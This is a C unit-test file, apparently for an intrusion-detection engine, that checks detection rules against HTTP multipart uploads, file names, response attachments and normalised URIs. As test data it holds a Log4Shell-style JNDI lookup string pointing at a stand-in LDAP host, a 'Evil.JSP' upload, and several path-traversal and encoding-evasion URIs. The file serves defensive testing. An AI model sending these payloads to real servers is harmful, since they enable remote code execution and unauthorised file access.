/* Tests of rules about targets and files of HTTP: parts of forms, bodies, and their names. */
#include "sensor/core/decoder.h"
#include "tests/unit/bench_detect.h"

#include <stdio.h>
#include <string.h>

#define ANY "alert http any any -> any any "

#define FORM                                                                                       \
    "--BB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"Evil.JSP\"\r\n\r\n"            \
    "first MARKA\r\n--BB\r\nContent-Disposition: form-data; name=\"g\"\r\n\r\nplain\r\n"           \
    "--BB\r\nContent-Disposition: form-data; name=\"h\"; filename=\"second.txt\"\r\n\r\n"          \
    "another file MARKB\r\n--BB--\r\n"

/* A form in pieces of `step` bytes. */
static void form(struct bench *b, struct span text, size_t step)
{
    for (size_t at = 0; at < text.len; at += step) {
        const struct region r = {.kind = REGION_BODY,
                                 .field = FIELD_HTTP_REQUEST_BODY,
                                 .bytes = span_sub(text, at, step),
                                 .flags = (at == 0 ? REGION_FIRST : 0) |
                                          (at + step >= text.len ? (unsigned)REGION_LAST : 0),
                                 .body_type = BODY_MULTIPART,
                                 .boundary = SPAN("BB")};
        detect_region(b->detector, &b->tx, &r);
    }
}

static void each_file_of_a_form_is_one_of_its_own(void)
{
    static const char rules[] =
        ANY "(msg:\"m\"; file.data; content:\"first MARKA\"; startswith; endswith; sid:1;)\n" ANY
            "(msg:\"m\"; filename:\"evil.jsp\"; filesize:18; file.data; content:\"MARKB\"; "
            "sid:2;)\n" ANY
            "(msg:\"m\"; file.name; content:\"second\"; startswith; bsize:10; sid:3;)\n" ANY
            "(msg:\"m\"; fileext:\"jsp\"; sid:4;)\n" ANY
            "(msg:\"m\"; file.data; content:\"plain\"; sid:5;)\n" ANY
            "(msg:\"m\"; file.data; content:\"--BB\"; sid:6;)\n" ANY
            "(msg:\"m\"; file.data; content:\"MARKA\"; content:\"MARKB\"; sid:7;)\n" ANY
            "(msg:\"m\"; filesize:>18; sid:8;)\n" ANY
            "(msg:\"m\"; file.name; content:\"/up\"; sid:9;)\n" ANY
            "(msg:\"m\"; http.request_body; content:\"plain\"; content:\"MARKB\"; sid:10;)\n";
    for (size_t step = 1; step <= 1024; step *= 4) {
        struct bench b;
        bench_start(&b, rules);
        request(&b, "POST /up.php HTTP/1.1\r\nHost: a\r\n\r\n");
        form(&b, SPAN(FORM), step);
        tx_stop(&b);
        unsigned found = 0;
        for (size_t i = 0; i < b.n_found; i++) {
            found |= 1U << b.found[i]->signature->sid;
        }
        CU_ASSERT_EQUAL(found, 1U << 1 | 1U << 2 | 1U << 3 | 1U << 4 | 1U << 10);
        CU_ASSERT_EQUAL(b.n_found, 5);
        bench_stop(&b);
    }
}

static void a_long_file_of_a_form_is_looked_at_to_its_end(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; file.data; content:\"MZ\"; startswith; sid:1;)\n" ANY
                        "(msg:\"m\"; file.data; content:\"last words\"; endswith; sid:2;)\n" ANY
                        "(msg:\"m\"; filesize:>200000; sid:3;)\n" ANY
                        "(msg:\"m\"; file.data; content:\"last words|0d 0a|\"; sid:4;)\n");
    struct sbuf text = sbuf_with_cap(1 << 20);
    sbuf_add_str(&text, "--BB\r\nContent-Disposition: form-data; filename=a\r\n\r\nMZ");
    add_lines(&text, 300000);
    sbuf_add_str(&text, "last words\r\n--BB--\r\n");
    request(&b, "POST /up.php HTTP/1.1\r\nHost: a\r\n\r\n");
    form(&b, sbuf_span(&text), 1460);
    EXPECT(&b, "long", {1, "file.data", NULL}, {2, "file.data", NULL}, {3, "file.data", NULL});
    bench_stop(&b);
    sbuf_free(&text);
}

static void a_lookup_in_a_file_of_a_form_is_told_once(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; file.data; content:\"jndi\"; sid:1;)\n" ANY
                        "(msg:\"m\"; jndi.class:attack; sid:2;)\n" ANY
                        "(msg:\"m\"; content:\"jndi\"; sid:3;)\n");
    request(&b, "POST /up.php HTTP/1.1\r\nHost: a\r\n\r\n");
    form(&b,
         SPAN("--BB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\n\r\n"
              "${jndi:ldap://a.example/x}\r\n--BB--\r\n"),
         1024);
    EXPECT(&b, "once", {1, "file.data", NULL}, {3, "http.request_body", NULL},
           {2, "http.request_body.multipart.f", NULL});
    bench_stop(&b);
}

static void a_body_has_the_name_of_its_path(void)
{
    static const char rules[] =
        ANY "(msg:\"m\"; file.name; content:\"/a/b.jsp\"; startswith; endswith; sid:1;)\n" ANY
            "(msg:\"m\"; file.data; content:\"text\"; sid:2;)\n";
    static const char *const files[] = {"POST /a/b%2ejsp?c=d HTTP/1.1\r\n\r\n",
                                        "PUT /a/b.jsp#e HTTP/1.1\r\n\r\n",
                                        "POST http://h.example/a/b.jsp HTTP/1.1\r\n\r\n"};
    struct bench b;
    for (size_t i = 0; i < ARRAY_LEN(files); i++) {
        bench_start(&b, rules);
        request(&b, files[i]);
        body(&b, "some text", BODY_TEXT);
        EXPECT(&b, files[i], {1, "file.name", NULL}, {2, "http.request_body", NULL});
        bench_stop(&b);
    }
    bench_start(&b, rules);
    request(&b, "GET /a/b.jsp HTTP/1.1\r\n\r\n");
    body(&b, "some text", BODY_TEXT);
    expect_nothing(&b, "what a GET brings is no file");
    bench_stop(&b);
}

/* The answer to a request: its head and its body. */
static void answer(struct bench *b, const char *head, const char *text)
{
    const struct region h = {
        .kind = REGION_HEAD, .field = FIELD_HTTP_HEADER, .dir = TO_CLIENT, .bytes = span_str(head)};
    detect_region(b->detector, &b->tx, &h);
    const struct region r = {.kind = REGION_BODY,
                             .field = FIELD_HTTP_RESPONSE_BODY,
                             .dir = TO_CLIENT,
                             .bytes = span_str(text),
                             .flags = REGION_FIRST | REGION_LAST};
    detect_region(b->detector, &b->tx, &r);
}

static void names_of_two_files_are_asked_apart(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; file.name; content:\"second\"; file.name; "
                        "content:\"Evil\"; sid:1;)\n" ANY
                        "(msg:\"m\"; file.name; content:\"second\"; content:\"Evil\"; sid:2;)\n" ANY
                        "(msg:\"m\"; file.data; content:\"MARKA\"; file.data; "
                        "content:\"MARKB\"; sid:3;)\n");
    request(&b, "POST /up.php HTTP/1.1\r\nHost: a\r\n\r\n");
    form(&b, SPAN(FORM), 1024);
    EXPECT(&b, "two names", {1, "file.name", NULL});
    bench_stop(&b);
}

static void a_target_is_what_a_server_makes_of_it(void)
{
    static const struct {
        const char *raw;
        const char *normal; /* in rule text */
    } targets[] = {
        {"/a/x/../b", "/a/b"},
        {"/a//b///c", "/a/b/c"},
        {"/a/./b/.", "/a/b"},
        {"/../../x", "/x"},
        {"/a%2f%2fb", "/a/b"},
        {"/a/%2e%2e/b", "/b"},
        {"http://h.example/p/q?x=http://y//z", "/p/q?x=http|3a|//y//z"},
        {"HTTP://u:p@h.example:80?x=1", "?x=1"},
        {"/p?q=/x/../y//z", "/p?q=/x/../y//z"},
        {"/a\\b\\..\\c", "/a/c"},
        {"/A%41%zz%4", "/AA%zz%4"},
        {"/%u0041b", "/Ab"},
        {"/a+b%20c?d=%2b+e%41", "/a+b c?d=++eA"},
        {"/a%252e", "/a%2e"},
        {"/a%c0%af..%c0%afb", "/b"},
        {"/a/b/../../../c", "/c"},
        {"/x/...//y", "/x/.../y"},
        {"/a#f/../g", "/a#f/../g"},
        {"*", "*"},
        {"/plain.html?a=b", "/plain.html?a=b"},
    };
    for (size_t i = 0; i < ARRAY_LEN(targets); i++) {
        char rule[256];
        char text[256];
        struct bench b;
        snprintf(rule, sizeof(rule),
                 ANY "(msg:\"m\"; http.uri; content:\"%s\"; startswith; endswith; sid:1;)\n",
                 targets[i].normal);
        snprintf(text, sizeof(text), "GET %s HTTP/1.1\r\nHost: a\r\n\r\n", targets[i].raw);
        bench_start(&b, rule);
        request(&b, text);
        EXPECT(&b, targets[i].raw, {1, "http.uri", NULL});
        bench_stop(&b);
    }
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; http.uri; content:\"..\"; sid:1;)\n" ANY
                        "(msg:\"m\"; http.uri.raw; content:\"..\"; sid:2;)\n");
    request(&b, "GET /a/.. HTTP/1.1\r\n\r\n");
    EXPECT(&b, "raw", {2, "http.uri.raw", NULL});
    bench_stop(&b);
}

static void a_response_names_its_file_itself(void)
{
    static const char rules[] =
        ANY "(msg:\"m\"; flow:to_client; fileext:\"exe\"; sid:1;)\n" ANY
            "(msg:\"m\"; flow:to_client; file.name; content:\"/dl/page\"; startswith; sid:2;)\n";
    struct bench b;
    bench_start(&b, rules);
    request(&b, "GET /dl/page?x HTTP/1.1\r\n\r\n");
    answer(&b, "HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename=\"R.EXE\"\r\n\r\n",
           "MZ");
    EXPECT(&b, "named", {1, "file.name", NULL});
    bench_stop(&b);
    bench_start(&b, rules);
    request(&b, "GET /dl/page?x HTTP/1.1\r\n\r\n");
    answer(&b, "HTTP/1.1 200 OK\r\nServer: a\r\n\r\n", "MZ");
    EXPECT(&b, "by its path", {2, "file.name", NULL});
    bench_stop(&b);
}

static CU_TestInfo tests[] = {
    {"each file of a form is one of its own", each_file_of_a_form_is_one_of_its_own},
    {"a long file of a form is looked at to its end",
     a_long_file_of_a_form_is_looked_at_to_its_end},
    {"a look-up in a file of a form is told once", a_lookup_in_a_file_of_a_form_is_told_once},
    {"a body has the name of its path", a_body_has_the_name_of_its_path},
    {"names of two files are asked apart", names_of_two_files_are_asked_apart},
    {"a target is what a server makes of it", a_target_is_what_a_server_makes_of_it},
    {"a response names its file itself", a_response_names_its_file_itself},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"files", NULL, NULL, NULL, NULL, tests},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
